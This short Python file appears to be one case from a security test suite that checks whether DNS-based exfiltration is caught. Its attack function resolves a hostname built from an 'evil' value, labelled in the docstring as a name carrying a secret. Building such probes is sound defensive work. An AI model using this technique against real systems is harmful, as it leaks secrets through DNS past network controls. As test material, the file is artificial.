"""getaddrinfo
Resolves a name that carries a secret.
policy: allowed-names
audit: dnsQuery
proof: arrival
"""
import socket


def attack(at):
    return bool(socket.getaddrinfo(at.evil().decode(), 80))
